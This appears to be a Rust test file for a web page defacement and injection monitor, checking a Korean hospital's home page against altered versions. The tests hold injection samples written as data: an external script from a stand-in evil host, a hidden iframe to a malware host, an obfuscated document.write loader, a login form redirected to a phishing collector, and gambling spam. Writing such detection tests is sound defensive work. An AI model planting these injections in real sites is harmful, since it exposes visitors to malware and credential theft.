//! The comparison on a Korean hospital's home page and its variants: a
//! re-rendered page, a news item, a defacement, injected scripts and
//! frames, gambling spam and threat intelligence.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use super::*;
use crate::indicators::{Indicator, IndicatorSet, Kind};

const URL: &str = "https://www.seoulmedi.example/";
const HOSPITAL: &str = include_str!("fixtures/hospital.html");
const DEFACED: &str = include_str!("fixtures/defaced.html");

fn options() -> Options {
    Options::default()
}

/// Compares `page` with the hospital's baseline; checks the outcome and
/// that each expected fragment occurs in some finding's summary.
fn check(page: &str, options: &Options, intel: &dyn Intel, outcome: Outcome, expect: &[&str]) {
    let baseline = snapshot(URL, HOSPITAL, options);
    let current = snapshot(URL, page, options);
    let c = compare(&baseline, &current, options, intel, 0);
    let summaries: Vec<String> = c.findings.iter().map(Finding::summary).collect();
    assert_eq!(c.outcome, outcome, "{summaries:#?}");
    for e in expect {
        assert!(
            summaries.iter().any(|s| s.contains(e)),
            "no finding mentions {e:?}: {summaries:#?}"
        );
    }
}

/// The hospital page with `extra` inserted before `</main>`.
fn with(extra: &str) -> String {
    HOSPITAL.replacen("</main>", &format!("{extra}\n</main>"), 1)
}

#[test]
fn the_baseline_holds_what_the_page_uses() {
    let s = snapshot(URL, HOSPITAL, &options());
    assert_eq!(s.title, "서울메디병원 - 환자 중심의 진료");
    let origins: BTreeSet<&str> = s.resources.iter().map(|r| r.origin.as_str()).collect();
    assert_eq!(
        origins,
        BTreeSet::from([
            "https://www.seoulmedi.example",
            "https://fonts.googleapis.com",
            "https://cdn.jsdelivr.net",
        ])
    );
    assert!(
        s.resources
            .iter()
            .any(|r| r.element == "form" && r.url == "https://www.seoulmedi.example/member/login")
    );
    // The analytics snippet, not the JSON-LD data block.
    assert_eq!(s.inline_scripts.len(), 1);
    assert!(s.inline_scripts[0].excerpt.starts_with("window.dataLayer"));
    assert!(s.hidden_iframes.is_empty());
    assert!(s.text.contains("환자 중심, 안전한 진료"));
    assert!(!s.text.contains("dataLayer"));
    assert!(s.skeleton.len() > 30);
}

#[test]
fn the_same_page_is_unchanged() {
    check(HOSPITAL, &options(), &NoIntel, Outcome::Unchanged, &[]);
}

#[test]
fn new_dates_nonces_and_tokens_are_unchanged() {
    let page = HOSPITAL
        .replace("2026년 11월 25일", "2026년 11월 26일")
        .replace("14:03 기준", "09:41 기준")
        .replace(
            "generated 2026-11-25 14:03:22",
            "generated 2026-11-26 09:41:07",
        )
        .replace("r4nd0mN0nce1", "Zx81QqLm0pAa")
        .replace(
            "d41d8cd98f00b204e9800998ecf8427e",
            "0cc175b9c0f1b6a831c399e269772661",
        )
        .replace(
            "a1b2c3d4e5f60718293a4b5c6d7e8f90",
            "ffeeddccbbaa99887766554433221100",
        )
        .replace(
            "<span class=\"date\">2026-11-20</span>",
            "<span class=\"date\">2026.11.20</span>",
        );
    assert_ne!(page, HOSPITAL);
    check(&page, &options(), &NoIntel, Outcome::Unchanged, &[]);
}

#[test]
fn ignore_patterns_remove_what_the_monitor_names() {
    let page = HOSPITAL.replace("외래 대기 12명", "외래 대기 31명");
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Changed,
        &["content changed"],
    );
    let mut o = options();
    o.ignore.push(compile_pattern(r"외래 대기 \d+명").unwrap());
    check(&page, &o, &NoIntel, Outcome::Unchanged, &[]);
}

#[test]
fn a_news_item_is_a_change_without_alert() {
    let page = HOSPITAL.replacen(
        "    <ul>\n      <li><a href=\"/notice/101\">",
        "    <ul>\n      <li><a href=\"/notice/102\">연말 진료 일정 안내</a> <span class=\"date\">2026-11-24</span></li>\n      <li><a href=\"/notice/101\">",
        1,
    );
    assert_ne!(page, HOSPITAL);
    let baseline = snapshot(URL, HOSPITAL, &options());
    let current = snapshot(URL, &page, &options());
    let c = compare(&baseline, &current, &options(), &NoIntel, 0);
    assert_eq!(c.outcome, Outcome::Changed, "{:#?}", c.findings);
    assert!(c.similarity > 900, "{}", c.similarity);
    assert!(c.rules().is_empty());
}

#[test]
fn a_defacement_page_is_defaced() {
    let baseline = snapshot(URL, HOSPITAL, &options());
    let current = snapshot(URL, DEFACED, &options());
    let c = compare(&baseline, &current, &options(), &NoIntel, 0);
    assert_eq!(c.outcome, Outcome::Defaced);
    assert!(c.similarity < 200, "{}", c.similarity);
    let summaries: Vec<String> = c.findings.iter().map(Finding::summary).collect();
    for e in [
        "structure only",
        "title replaced: \"서울메디병원 - 환자 중심의 진료\" → \"Hacked By Gh0st_Cr3w\"",
        "keyword \"hacked by\" in the title",
        "keyword \"해킹당\" in the text",
    ] {
        assert!(
            summaries.iter().any(|s| s.contains(e)),
            "{e}: {summaries:#?}"
        );
    }
    assert_eq!(c.rules(), vec![RULE_DEFACEMENT, RULE_INJECTED]);
}

#[test]
fn keywords_count_against_the_baseline() {
    // The baseline's own notice says 해킹 once, which raises nothing (the
    // news test above); one more mention does.
    let page = with("<p>해킹 메일 주의</p>");
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Defaced,
        &["keyword \"해킹\" in the text 2× (baseline 1×)"],
    );
    let mut o = options();
    o.keywords.push("긴급 점검".into());
    check(
        &with("<p>긴급 점검 중</p>"),
        &o,
        &NoIntel,
        Outcome::Defaced,
        &["keyword \"긴급 점검\""],
    );
}

#[test]
fn gambling_spam_is_defacement() {
    let page = with(
        "<div style=\"position:absolute; left:-9999px\"><a href=\"https://spam.example/\">카지노</a> <a href=\"https://spam.example/t\">토토사이트</a> 바카라 추천</div>",
    );
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Defaced,
        &[
            "keyword \"카지노\"",
            "keyword \"토토\"",
            "keyword \"바카라\"",
        ],
    );
}

#[test]
fn an_external_script_is_injected() {
    let page = with("<script src=https://evil.example/x.js></script>");
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Injected,
        &["new script origin https://evil.example: https://evil.example/x.js"],
    );
    // A new script of a known origin is a change, not an injection.
    check(
        &with("<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script>"),
        &options(),
        &NoIntel,
        Outcome::Changed,
        &[],
    );
}

#[test]
fn a_hidden_iframe_is_injected() {
    let page = with(
        "<div style=\"display: none\"><iframe src=\"http://malware.example/ek/\"></iframe></div>",
    );
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Injected,
        &[
            "new hidden iframe: http://malware.example/ek/",
            "new iframe origin http://malware.example",
        ],
    );
    let tiny = with(
        "<iframe src=\"/ads/frame.html\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>",
    );
    check(
        &tiny,
        &options(),
        &NoIntel,
        Outcome::Injected,
        &["new hidden iframe: https://www.seoulmedi.example/ads/frame.html"],
    );
}

#[test]
fn a_new_inline_script_is_injected() {
    let page = with(
        "<script>document.write(unescape('%3Cscript src=%22//x.example/a%22%3E%3C/script%3E'))</script>",
    );
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Injected,
        &["new inline script: document.write(unescape("],
    );
}

#[test]
fn a_new_form_target_or_refresh_elsewhere_counts() {
    let page = HOSPITAL.replace(
        "action=\"/member/login\"",
        "action=\"https://phish.example/collect\"",
    );
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Injected,
        &["new form origin https://phish.example"],
    );
    let page = HOSPITAL.replacen(
        "<meta charset=\"utf-8\">",
        "<meta charset=\"utf-8\"><meta http-equiv=\"refresh\" content=\"0; url=https://casino.example/\">",
        1,
    );
    check(
        &page,
        &options(),
        &NoIntel,
        Outcome::Defaced,
        &["now leads from https://www.seoulmedi.example to https://casino.example/"],
    );
}

#[test]
fn a_redirect_to_another_site_is_defacement_but_https_is_not() {
    let baseline = snapshot("http://www.seoulmedi.example/", HOSPITAL, &options());
    let upgraded = snapshot("https://www.seoulmedi.example/", HOSPITAL, &options());
    let c = compare(&baseline, &upgraded, &options(), &NoIntel, 0);
    assert_eq!(c.outcome, Outcome::Unchanged);
    let moved = snapshot(
        "https://parked.example/",
        HOSPITAL
            .replace("<li><a href=\"/about\">병원소개</a></li>", "")
            .as_str(),
        &options(),
    );
    let c = compare(&baseline, &moved, &options(), &NoIntel, 0);
    assert_eq!(c.outcome, Outcome::Defaced, "{:#?}", c.findings);
}

#[test]
fn threat_intelligence_names_known_and_new_hosts() {
    let source: Arc<str> = Arc::from("KISA C-TAS");
    let set = IndicatorSet::build(vec![
        Indicator::new("csv--1", Kind::Domain, "evil.example", source.clone()).unwrap(),
    ]);
    check(
        &with("<script src=\"https://cdn.evil.example/stat.js\"></script>"),
        &options(),
        &set,
        Outcome::Injected,
        &["script https://cdn.evil.example/stat.js matches indicator evil.example (KISA C-TAS)"],
    );
    // A host the baseline already used, listed later, is reported even
    // though the page did not change.
    let set = IndicatorSet::build(vec![
        Indicator::new("csv--2", Kind::Domain, "cdn.jsdelivr.net", source).unwrap(),
    ]);
    check(
        HOSPITAL,
        &options(),
        &set,
        Outcome::Injected,
        &["matches indicator cdn.jsdelivr.net"],
    );
}

#[test]
fn similarity_is_a_multiset_measure() {
    let s = |v: &[&str]| v.iter().map(|x| (*x).to_owned()).collect::<Vec<_>>();
    assert_eq!(
        structure_similarity(&s(&["a", "b", "c"]), &s(&["a", "b", "c"])),
        1000
    );
    assert_eq!(structure_similarity(&s(&[]), &s(&[])), 1000);
    assert_eq!(
        structure_similarity(&s(&["a", "b", "c"]), &s(&["x", "y", "z"])),
        0
    );
    let long: Vec<String> = (0..100).map(|i| format!("t{}", i % 7)).collect();
    let mut longer = long.clone();
    longer.extend(s(&["li", "a", "span"]));
    let v = structure_similarity(&long, &longer);
    assert!((900..1000).contains(&v), "{v}");
}

#[test]
fn patterns_are_bounded() {
    assert!(compile_pattern("(").is_err());
    assert!(compile_pattern(&"a".repeat(MAX_PATTERN + 1)).is_err());
    assert!(compile_pattern(r"\w{1000}{1000}").is_err());
    assert!(compile_pattern(r"csrf=[0-9a-f]+").is_ok());
}

#[test]
fn snapshots_never_panic_and_stay_bounded() {
    let huge = "<div>".repeat(50_000);
    let s = snapshot(URL, &huge, &options());
    assert!(s.skeleton.len() <= MAX_SKELETON);
    for page in [
        "",
        "<",
        "<title>",
        "<script src=",
        "<iframe src=\"javascript:alert(1)\" hidden>",
        "<base href=\"::\">",
        "<meta http-equiv=refresh content=\"0;url=\">",
    ] {
        let s = snapshot("not a url", page, &options());
        let _ = compare(
            &s,
            &snapshot(URL, HOSPITAL, &options()),
            &options(),
            &NoIntel,
            0,
        );
    }
    let s = snapshot(
        URL,
        "<iframe src=\"javascript:alert(1)\" hidden></iframe>",
        &options(),
    );
    assert_eq!(s.hidden_iframes[0].origin, "javascript:");
}
